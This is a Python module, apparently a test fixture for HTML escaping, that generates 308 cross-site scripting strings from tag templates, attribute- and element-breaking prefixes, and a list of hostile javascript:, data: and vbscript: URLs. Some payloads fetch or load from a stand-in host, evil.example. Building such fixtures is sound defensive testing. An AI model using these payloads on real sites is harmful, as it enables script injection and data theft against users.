"""What could make a browser run or load something, were it not escaped: for titles, authors, addresses, sentences."""

from __future__ import annotations

_SCRIPTS = ("alert(1)", "fetch('//evil.example/x')", "top.location='//evil.example'")
_TAGS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<math><mtext><style><img src=x onerror={}>",
    "<a href='javascript:{}'>x</a>", "<form action='javascript:{}'><button autofocus>x", "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>", "<marquee onstart={}>x</marquee>", "<select autofocus onfocus={}>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<style>@import '//evil.example/x';</style>{}", "<link rel=stylesheet href=//evil.example/x>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=//evil.example/>{}",
)  # fmt: skip
_BREAKS = (
    "", '">', "'>", "</title>", "</style>", "</textarea>", "-->", "]]>", "</a>", "\x00", "&quot;>", "\u2028", "{{{{7*7}}}}",
    "\" autofocus onfocus=alert(1) x=\"",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "javascript://x.example/%0aalert(1)", "//evil.example/x",
    "https://x.example/\" onmouseover=alert(1) x=\"", "https://x.example/'><script>alert(1)</script>",
    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "blob:https://x.example/1",
)  # fmt: skip

TEXTS = tuple(
    brk.replace("{{{{", "{{").replace("}}}}", "}}") + tag.replace("{}", _SCRIPTS[at % len(_SCRIPTS)])
    for brk in _BREAKS
    for at, tag in enumerate(_TAGS)
)
"""Every tag behind every way out of an attribute, a comment or an element: 308."""

ADDRESSES = _ADDRESSES
